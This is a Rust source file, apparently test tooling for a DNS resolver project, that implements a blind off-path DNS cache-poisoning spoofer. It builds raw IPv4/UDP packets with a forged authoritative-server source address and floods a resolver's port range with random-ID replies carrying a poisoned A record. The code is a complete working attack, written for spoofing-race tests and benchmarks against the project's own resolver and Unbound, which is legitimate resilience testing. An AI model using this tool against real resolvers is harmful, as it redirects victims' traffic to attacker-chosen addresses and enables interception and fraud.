//! A blind off-path spoofer (RFC 5452 §3): forged DNS replies that claim to
//! come from a real authoritative server (`server`, port 53), sent to a
//! resolver's upstream-facing addresses on every port of a range with random
//! IDs, each carrying a poisoned A record for the name being resolved. It knows
//! what a blind attacker can know (the server, the name, the resolver's
//! address), guesses the ID and the port, and cannot see the query, so it
//! cannot echo a 0x20 case either: the question goes out in lowercase.
//!
//! The source address is forged with a raw IPv4 socket and IP_HDRINCL (root
//! only): binding a second socket to the server's address would either fail
//! or, with SO_REUSEPORT, steal the server's own queries.
//!
//! Used by the spoofing-race e2e test and, through `dns-spoof`, by
//! tests/bench/attacks.sh against ours and Unbound.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::ops::RangeInclusive;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use anyhow::{bail, Context as _};
use hickory_proto::op::{Message, MessageType, OpCode, Query};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{Name, RData, Record, RecordType};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use tokio::time::Instant;

/// What to forge and where to send it.
#[derive(Clone, Debug)]
pub struct SpoofSpec {
    /// The resolver's upstream-facing addresses (where its queries come from).
    pub targets: Vec<Ipv4Addr>,
    /// The authoritative server whose replies are forged (source address).
    pub server: Ipv4Addr,
    /// The source port of the forged replies (the server's, 53).
    pub server_port: u16,
    /// The name the resolver is asking for.
    pub qname: Name,
    /// The poisoned address put in the answer.
    pub answer: Ipv4Addr,
    /// TTL of the poisoned record.
    pub ttl: u32,
    /// Destination ports tried, round after round.
    pub ports: RangeInclusive<u16>,
    /// Stop after this many datagrams (sent no faster than `count` per
    /// `duration`).
    pub count: u64,
    /// Stop after this long.
    pub duration: Duration,
}

/// The forged reply with ID 0 (each datagram gets its own guess): our
/// question in lowercase, the poisoned A record, AA set.
fn forged_reply(spec: &SpoofSpec) -> anyhow::Result<Vec<u8>> {
    let mut reply = Message::new(0, MessageType::Response, OpCode::Query);
    reply.metadata.authoritative = true;
    reply.add_query(Query::query(spec.qname.to_lowercase(), RecordType::A));
    reply.add_answer(Record::from_rdata(
        spec.qname.to_lowercase(),
        spec.ttl,
        RData::A(A(spec.answer)),
    ));
    reply.to_vec().context("encoding the forged reply")
}

/// An IPv4 + UDP header in front of `payload` (IP checksum and ID are filled
/// in by the kernel for IP_HDRINCL; UDP checksum 0 means none, RFC 768).
fn datagram(src: SocketAddrV4, dst: SocketAddrV4, payload: &[u8]) -> anyhow::Result<Vec<u8>> {
    let udp_len = u16::try_from(8 + payload.len()).context("payload too large")?;
    let total = udp_len
        .checked_add(20)
        .context("payload too large")?
        .to_be_bytes();
    let mut packet = Vec::with_capacity(28 + payload.len());
    packet.extend_from_slice(&[0x45, 0, total[0], total[1], 0, 0, 0x40, 0, 64, 17, 0, 0]);
    packet.extend_from_slice(&src.ip().octets());
    packet.extend_from_slice(&dst.ip().octets());
    packet.extend_from_slice(&src.port().to_be_bytes());
    packet.extend_from_slice(&dst.port().to_be_bytes());
    packet.extend_from_slice(&udp_len.to_be_bytes());
    packet.extend_from_slice(&[0, 0]);
    packet.extend_from_slice(payload);
    Ok(packet)
}

/// Offsets in the datagram of the UDP destination port and the DNS ID.
const DST_PORT_AT: usize = 22;
const DNS_ID_AT: usize = 28;

/// Sends forged replies per `spec` until its count or duration is spent, or
/// `stop` is set: for each port in turn, to each target, with a fresh random
/// ID. Returns how many datagrams were sent. Blocking (run it on its own
/// thread).
pub fn spoof(spec: &SpoofSpec, stop: &AtomicBool) -> anyhow::Result<u64> {
    if spec.targets.is_empty() || spec.ports.is_empty() {
        bail!("no target address or no port to forge to");
    }
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP))
        .context("raw socket (needs root or CAP_NET_RAW)")?;
    socket.set_header_included_v4(true).context("IP_HDRINCL")?;
    let payload = forged_reply(spec)?;
    let src = SocketAddrV4::new(spec.server, spec.server_port);
    let mut packets: Vec<(SockAddr, Vec<u8>)> = spec
        .targets
        .iter()
        .map(|&ip| {
            let dst = SocketAddrV4::new(ip, 0);
            datagram(src, dst, &payload).map(|p| (SockAddr::from(SocketAddr::V4(dst)), p))
        })
        .collect::<anyhow::Result<_>>()?;
    let started = Instant::now();
    let deadline = started + spec.duration;
    // `count` spread over `duration`: never faster than that rate.
    let per_second = spec.count as f64 / spec.duration.as_secs_f64().max(1e-3);
    let mut sent = 0u64;
    'rounds: loop {
        for port in spec.ports.clone() {
            for (to, packet) in &mut packets {
                if sent >= spec.count {
                    break 'rounds;
                }
                packet[DST_PORT_AT..DST_PORT_AT + 2].copy_from_slice(&port.to_be_bytes());
                let id: u16 = rand::random();
                packet[DNS_ID_AT..DNS_ID_AT + 2].copy_from_slice(&id.to_be_bytes());
                // A full socket buffer drops one guess; keep going.
                if socket.send_to(packet, to).is_ok() {
                    sent += 1;
                }
            }
            if port % 256 == 0 {
                if Instant::now() >= deadline || stop.load(Ordering::Relaxed) {
                    break 'rounds;
                }
                let due = started + Duration::from_secs_f64(sent as f64 / per_second);
                let ahead = due.saturating_duration_since(Instant::now());
                if !ahead.is_zero() {
                    std::thread::sleep(ahead.min(deadline - Instant::now().min(deadline)));
                }
            }
        }
        if Instant::now() >= deadline || stop.load(Ordering::Relaxed) {
            break;
        }
    }
    Ok(sent)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The datagram parses back as the forged reply, with the port and ID
    /// fields where the sender patches them.
    #[test]
    fn datagram_layout() {
        let spec = SpoofSpec {
            targets: vec![Ipv4Addr::LOCALHOST],
            server: Ipv4Addr::new(127, 9, 0, 1),
            server_port: 53,
            qname: Name::from_ascii("WWW.Example.com.").unwrap(),
            answer: Ipv4Addr::new(6, 6, 6, 6),
            ttl: 3600,
            ports: 1000..=1001,
            count: 1,
            duration: Duration::from_secs(1),
        };
        let payload = forged_reply(&spec).unwrap();
        let mut packet = datagram(
            SocketAddrV4::new(spec.server, 53),
            SocketAddrV4::new(Ipv4Addr::LOCALHOST, 4242),
            &payload,
        )
        .unwrap();
        packet[DNS_ID_AT..DNS_ID_AT + 2].copy_from_slice(&7u16.to_be_bytes());
        assert_eq!(
            &packet[DST_PORT_AT..DST_PORT_AT + 2],
            &4242u16.to_be_bytes()
        );
        assert_eq!(&packet[20..22], &53u16.to_be_bytes());
        let message = Message::from_vec(&packet[28..]).unwrap();
        assert_eq!(message.metadata.id, 7);
        assert_eq!(message.queries[0].name().to_ascii(), "www.example.com.");
        assert_eq!(message.answers.len(), 1);
    }
}
